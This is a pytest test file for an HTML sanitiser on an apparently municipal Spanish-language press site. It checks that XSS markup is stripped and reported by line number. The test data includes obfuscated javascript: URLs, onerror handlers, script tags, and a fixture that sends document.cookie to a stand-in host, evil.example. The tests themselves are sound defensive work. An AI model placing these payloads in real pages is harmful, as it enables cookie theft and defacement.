"""The body sanitiser (nh3): what a hostile body loses, what an ordinary one keeps, and where the
build says so."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from pregon.plugins.sanitize import (
    DEFAULT_IFRAME_HOSTS,
    clean_body_html,
    frame_sources,
    iframe_allowed,
    locate,
    removals,
)

from tests.conftest import FIXED_NOW, build_site

from .conftest import edit, page

HOSTILE = [
    ("<p>a<script>alert(1)</script></p>", "<script", "`<script>`"),
    ('<img src="x.jpg" onerror="alert(1)" alt="a">', "onerror", "`onerror`"),
    ('<a href="javascript:alert(1)">x</a>', "javascript", "`javascript:alert(1)`"),
    ('<a href="jav&#x61;script:alert(1)">x</a>', "script:", "`javascript:alert(1)`"),
    ('<a href="jav&#97;script&colon;alert(1)">x</a>', "script", "`javascript:alert(1)`"),
    ('<a href="java\tscript:alert(1)">x</a>', "script", "java script:alert(1)"),
    ('<a href="  JaVaScRiPt:alert(1)">x</a>', "script", "JaVaScRiPt:alert(1)"),
    ('<a href="vbscript:msgbox(1)">x</a>', "vbscript", "vbscript:"),
    ('<img src="data:image/svg+xml;base64,PHN2Zz4=">', "data:", "data:image/svg"),
    ('<iframe src="https://evil.example/embed/1"></iframe>', "evil", "`<iframe>` de `https://evil.example"),
    ('<iframe src="https://www.youtube.com.evil.example/embed/1"></iframe>', "evil", "no es de un servicio"),
    ('<iframe src="http://www.youtube.com/embed/1"></iframe>', "youtube", "no es de un servicio"),
    ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "srcdoc", "`srcdoc`"),
    ('<p style="position:fixed;inset:0;background:red">falso aviso</p>', "position", "`style`"),
    ("<style>body{display:none}</style>", "display", "`<style>`"),
    ('<svg onload="alert(1)"><circle r="5"/></svg>', "alert", "`<svg>`"),
    ('<form action="https://evil.example"><input name="clave"></form>', "evil", "`<form>`"),
    ('<object data="x.swf"></object>', "swf", "`<object>`"),
    ('<a href="https://x.example" target="_top">x</a>', "_top", "`target`"),
    ('<div data-md-component="announce">x</div>', "data-md", "`data-md-component`"),
    ('<div id="__config">{"base": "//evil.example"}</div>', "__config", "`__config`"),
    ('<p id="pregon-live-title">x</p>', "pregon-live", "reservado"),
]


@pytest.mark.parametrize(("html", "gone", "said"), HOSTILE, ids=[h[1] + str(i) for i, h in enumerate(HOSTILE)])
def test_hostile_markup_is_removed_and_named(html: str, gone: str, said: str) -> None:
    cleaned = clean_body_html(html)
    assert gone.lower() not in cleaned.lower(), cleaned
    messages = [r.message() for r in removals(html)]
    assert messages and any(said in m for m in messages), messages


ORDINARY = [
    '<h2 id="horario">Horario<a class="headerlink" href="#horario" title="Enlace permanente">¶</a></h2>',
    '<div class="admonition note"><p class="admonition-title">Nota</p><p>Texto</p></div>',
    '<p><a href="../otra/" title="Otra">enlace</a> y <a href="https://www.gov.co/">GOV.CO</a> '
    '<a href="mailto:prensa@alcaldia.gov.co">correo</a> <a href="tel:+576000000">teléfono</a></p>',
    '<p><img src="foto.jpg" alt="Una foto" width="600" height="400" loading="lazy"></p>',
    '<table><thead><tr><th style="text-align: center;">A</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>',
    '<iframe src="https://www.youtube-nocookie.com/embed/aqz-KE-bpKQ" title="Video" allow="encrypted-media; picture-in-picture" allowfullscreen></iframe>',
    '<iframe src="https://www.openstreetmap.org/export/embed.html?bbox=-74.1,4.6,-74.0,4.7" title="Mapa"></iframe>',
    '<iframe src="https://player.vimeo.com/video/1084537" title="Video"></iframe>',
    "<details><summary>Más</summary><p>Detalle</p></details>",
    '<p><a href="https://x.example/" target="_blank">nueva ventana</a></p>',
]


@pytest.mark.parametrize("html", ORDINARY)
def test_ordinary_markup_passes_untouched_in_meaning(html: str) -> None:
    assert removals(html) == []
    cleaned = clean_body_html(html)
    for needle in ("href=", "src=", "class=", "id=", "<table", "<iframe", "<details"):
        assert (needle in html) == (needle in cleaned)


def test_embedded_frames_are_sandboxed_and_keep_only_known_features() -> None:
    cleaned = clean_body_html(
        '<iframe src="https://www.youtube.com/embed/x" allow="camera; microphone; autoplay"></iframe>'
    )
    assert 'sandbox="allow-scripts allow-same-origin allow-popups allow-presentation"' in cleaned
    assert "camera" not in cleaned and "referrerpolicy=" in cleaned
    assert [
        r.attribute for r in removals('<iframe src="https://www.youtube.com/embed/x" allow="camera"></iframe>')
    ] == ["allow"]


def test_iframe_hosts_come_from_the_office_and_match_exactly() -> None:
    assert iframe_allowed("https://www.youtube.com/embed/abc", DEFAULT_IFRAME_HOSTS)
    assert not iframe_allowed("https://www.youtube.com/watch?v=abc", DEFAULT_IFRAME_HOSTS)  # not the embed path
    assert not iframe_allowed("https://user@www.youtube.com/embed/abc", DEFAULT_IFRAME_HOSTS)
    assert not iframe_allowed("https://www.youtube.com:8443/embed/abc", DEFAULT_IFRAME_HOSTS)
    office = ("mapas.alcaldia.gov.co",)
    assert iframe_allowed("https://mapas.alcaldia.gov.co/visor?x=1", office)
    assert removals('<iframe src="https://www.youtube.com/embed/abc"></iframe>', office)
    assert frame_sources(office) == ("https://mapas.alcaldia.gov.co", "https://www.youtube-nocookie.com/embed/")


def test_each_removal_is_placed_on_the_line_that_wrote_it() -> None:
    markdown = "Texto.\n\n[uno](javascript:a())\n\n<img src=x.jpg onerror=b()>\n\n[dos](jav&#x61;script:a())\n"
    html = '<p>Texto.</p><p><a href="javascript:a()">uno</a></p><p><img src="x.jpg" onerror="b()"></p>'
    html += '<p><a href="javascript:a()">dos</a></p>'
    placed = [(r.attribute, line) for r, line in locate(removals(html), markdown)]
    assert sorted(placed, key=lambda p: p[1] or 0) == [("href", 2), ("onerror", 4), ("href", 6)]


BODY = """
Un párrafo con <a href="jav&#x61;script:fetch('//evil.example/?'+document.cookie)">un enlace</a>.

<img src="biblioteca-horario-extendido.jpg" alt="Estantes" onerror="document.title='PWNED'">

<script>document.title = "PWNED"</script>

[Más información](javascript:alert(document.domain))
"""

ITEM = "prensa/2026/03/biblioteca-amplia-horario"


def test_hostile_body_fails_the_strict_build_with_lines_and_is_clean_otherwise(
    project_copy: Path, tmp_path: Path
) -> None:
    path = edit(project_copy, ITEM, "La entrada es libre.\n", "La entrada es libre.\n" + BODY)
    lines = path.read_text(encoding="utf-8").split("\n")
    strict = _build_verbose(project_copy, tmp_path / "strict")
    assert strict.returncode != 0
    shown = f"content/{ITEM}.md"
    for needle, said in [
        ("jav&#x61;script", "la dirección `javascript:fetch("),
        ("onerror", "el atributo `onerror` de `<img>`"),
        ("<script>", "la etiqueta `<script>`"),
        ("javascript:alert", "la dirección `javascript:alert(document.domain)`"),
    ]:
        number = next(i for i, line in enumerate(lines, 1) if needle in line)
        assert f"{shown}:{number}: {said}" in strict.stderr, strict.stderr
    assert "Traceback" not in strict.stderr

    relaxed = build_site(tmp_path / "site", "http://portal.example/", project=project_copy, strict=False)
    assert relaxed.returncode == 0, relaxed.stderr
    html = page(tmp_path / "site", ITEM)
    body = html[html.index('class="pregon-release__body"') :]
    body = body[: body.index("</div>")]
    assert "<script" not in body and "onerror" not in body and "javascript" not in body.lower()
    assert "Estantes" in body and "Más información" in body  # the words stay, the code goes


def _build_verbose(project: Path, dest: Path) -> subprocess.CompletedProcess[str]:
    """``mkdocs build --strict`` as CI runs it (without -q, which would hide the warnings)."""
    env = {**os.environ, "PREGON_SITE_URL": "http://portal.example/", "PREGON_NOW": FIXED_NOW}
    cmd = [sys.executable, "-m", "mkdocs", "build", "--strict", "-d", str(dest)]
    return subprocess.run(cmd, cwd=project, env=env, capture_output=True, text=True, timeout=300)
